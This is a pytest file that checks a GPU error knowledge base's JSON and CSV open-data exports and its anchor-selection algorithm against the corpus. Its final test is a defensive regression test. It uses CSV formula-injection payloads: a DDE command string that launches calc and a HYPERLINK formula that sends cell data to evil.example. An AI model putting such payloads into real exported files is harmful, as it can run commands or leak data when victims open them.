"""The open data files agree with the corpus, field by field."""

from __future__ import annotations

import csv
import io
import json

import pytest

from conftest import ROOT
from generator.exports import datasets
from generator.corpus.validated import load_corpus
from generator.matcher import check_rules

CORPUS = load_corpus(ROOT / "kb" / "entries")
FILES = datasets.files(CORPUS)


def test_xid_json_has_every_xid_entry_with_its_catalog_facts() -> None:
    doc = json.loads(FILES["xid.json"])
    assert doc["schema"] == "kb.xid/1"
    codes = {c["code"]: c for c in doc["codes"]}
    entries = CORPUS.xid_entries()
    assert sorted(codes) == [e.xid.code for e in entries]
    for e in entries:
        row = codes[e.xid.code]
        assert row["id"] == e.id and row["name"] == e.xid.name and row["mnemonic"] == e.xid.mnemonic
        assert row["immediate_action"] == e.xid.immediate_action
        assert row["investigatory_action"] == e.xid.investigatory_action
        assert row["reset_required"] == e.xid.reset_required and row["severity"] == e.severity
        assert row["origin"] == list(e.xid.origin) and row["applies_to"] == list(e.xid.applies_to)
        assert [o["tool"] for o in row["operators"]] == [o.tool for o in e.xid.operators]
        assert e.summary.split()[0] in row["meaning"]


def test_xid_csv_matches_the_json() -> None:
    rows = list(csv.DictReader(io.StringIO(FILES["xid.csv"])))
    doc = json.loads(FILES["xid.json"])
    assert len(rows) == len(doc["codes"])
    for row, item in zip(rows, doc["codes"]):
        assert int(row["code"]) == item["code"] and row["id"] == item["id"]
        assert row["origin"].split(";") == (item["origin"] or [""])
        assert row["operators_disagreeing"] == ";".join(o["tool"] for o in item["operators"] if o["disagrees"])
        assert row["reset_required"] == {True: "true", False: "false", None: ""}[item["reset_required"]]


def test_entries_json_round_trips_every_entry() -> None:
    doc = json.loads(FILES["entries.json"])
    assert doc["schema"] == "kb.entries/1"
    by_id = {e["id"]: e for e in doc["entries"]}
    assert set(by_id) == {e.id for e in CORPUS.entries}
    for e in CORPUS.entries:
        exported = dict(by_id[e.id])
        assert exported.pop("path") == f"entries/{e.id}/"
        assert exported == e.model_dump(mode="json")


def test_rules_json_is_valid_and_covers_every_signature() -> None:
    rules = check_rules(json.loads(FILES["rules.json"]))
    assert len(rules["signatures"]) == sum(len(e.signatures) for e in CORPUS.entries)
    covered = {i for a in rules["anchors"] for i in a["signatures"]}
    assert covered == set(range(len(rules["signatures"]))), "every signature must sit under an anchor"
    examples = {(e.id, s.id): [x.line for x in s.examples] for e in CORPUS.entries for s in e.signatures}
    # an anchor must be in every line its signatures match: check it on their real example lines
    for i, sig in enumerate(rules["signatures"]):
        anchors = [a for a in rules["anchors"] if i in a["signatures"]]
        for line in examples[(sig["entry"], sig["id"])]:
            assert any(a["text"] in (line.lower() if a["ignore_case"] else line) for a in anchors), (sig["id"], line)


def test_signatures_share_an_anchor_only_when_it_stays_rare() -> None:
    """A plain word shared by two signatures ('work') would make every ordinary line a candidate."""
    from generator.corpus.anchors import weak_shared  # noqa: PLC0415

    rules = json.loads(FILES["rules.json"])
    shared = [a for a in rules["anchors"] if len(a["signatures"]) > 1 and not a.get("builtin")]
    assert shared, "the corpus has signatures that can share a distinctive anchor"
    sigs = rules["signatures"]
    weak = [f"{a['text']!r} ({', '.join(sigs[i]['entry'] + ':' + sigs[i]['id'] for i in a['signatures'])})"
            for a in weak_shared(shared)]
    assert not weak, ("weak anchors shared by several signatures: " + "; ".join(weak) + ". Each of these patterns "
                      "has no rarer required text than the shared word: give one of them a required literal of its "
                      "own (the product's message words, a file name, an error code), or split an alternation so "
                      "that each branch has one")


def _cover_by_recounting(signatures: list[dict]) -> list[dict]:
    """anchors.cover_anchors as it was first written: every round recounts every pending signature's
    tokens and scores them all (quadratic; the reference the heap version must equal)."""
    from generator.corpus.literals import COMMON_WORDS, rarity  # noqa: PLC0415
    from generator.corpus.anchors import STRONG_ANCHOR, _fixed_anchors, _to_cover  # noqa: PLC0415

    anchors = _fixed_anchors(signatures)  # the same start; only the greedy loop differs
    for ignore_case in (False, True):
        pending = set(_to_cover(signatures, ignore_case))
        while pending:
            counts: dict[str, set[int]] = {}
            for i in pending:
                for token in signatures[i]["tokens"] or signatures[i]["literals"]:
                    counts.setdefault(token, set()).add(i)

            def score(token: str) -> tuple:
                strong = token not in COMMON_WORDS and rarity(token) >= STRONG_ANCHOR
                return (0 if token in COMMON_WORDS else 1, strong, len(counts[token]) if strong else 0,
                        min(rarity(token), 24))

            best = max(sorted(counts), key=score)
            covered = counts[best]
            anchors.append({"text": best, "ignore_case": ignore_case, "signatures": sorted(covered)})
            pending -= covered
    return anchors


def _signatures_for_cover(corpus) -> list[dict]:  # noqa: ANN001
    from generator.corpus.anchors import anchor_input  # noqa: PLC0415

    return [anchor_input(sig.pattern) for e in corpus.entries for sig in e.signatures]


def test_anchor_cover_picks_what_recounting_every_round_picks() -> None:
    """anchors.cover_anchors keeps counts in a heap instead of recounting each round: same anchors, same
    order, on the real corpus and on random token sets full of ties, shared and weak tokens."""
    import random  # noqa: PLC0415

    from generator.corpus.anchors import cover_anchors  # noqa: PLC0415

    real = _signatures_for_cover(CORPUS)
    assert cover_anchors([dict(s) for s in real]) == _cover_by_recounting(real)
    words = ["error", "failed", "NCCL", "rank", "work", "code", "Xid", "cudaMalloc", "posix_fallocate", "segfault",
             "NCCL WARN ", "Killed process ", "illegal memory access", "out of memory", "ECC", "watchdog", "timeout"]
    rng = random.Random(5)
    for _ in range(200):
        sigs = []
        for _ in range(rng.randrange(1, 60)):
            tokens = sorted(set(rng.sample(words, rng.randrange(0, 5))))
            literal = rng.choice(words) if not tokens or rng.random() < 0.5 else max(tokens, key=len)
            literals = [literal] if rng.random() < 0.9 else [literal, rng.choice(words)]
            sigs.append({"literals": literals, "ignore_case": rng.random() < 0.3,
                         "tokens": tokens if len(literals) == 1 else []})
        assert cover_anchors([dict(s) for s in sigs]) == _cover_by_recounting(sigs)


@pytest.mark.slow
def test_built_site_publishes_the_data(built_site) -> None:
    for name, text in FILES.items():
        assert (built_site / "data" / name).read_text(encoding="utf-8") == text


def test_no_cell_of_xid_csv_is_a_spreadsheet_formula() -> None:
    """Red team s24: an Xid name '=HYPERLINK(...)' or a summary starting '@SUM(...)' passed
    validation and reached xid.csv as is: a formula once the open data is opened in a spreadsheet."""
    from generator.corpus.validated import Corpus

    entry = CORPUS.xid_entries()[0]
    hostile = entry.model_copy(update={
        "summary": "@SUM(1+1)*cmd|' /C calc'!A0 is what this code means.",
        "xid": entry.xid.model_copy(update={"name": '=HYPERLINK("https://evil.example/?"&A1,"Click for the fix")'}),
    })
    text = datasets.xid_csv(Corpus(root=ROOT, entries=[hostile]))
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["name"] == "'" + hostile.xid.name and row["meaning"].startswith("'@SUM(")
    for row in csv.reader(io.StringIO(FILES["xid.csv"])):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
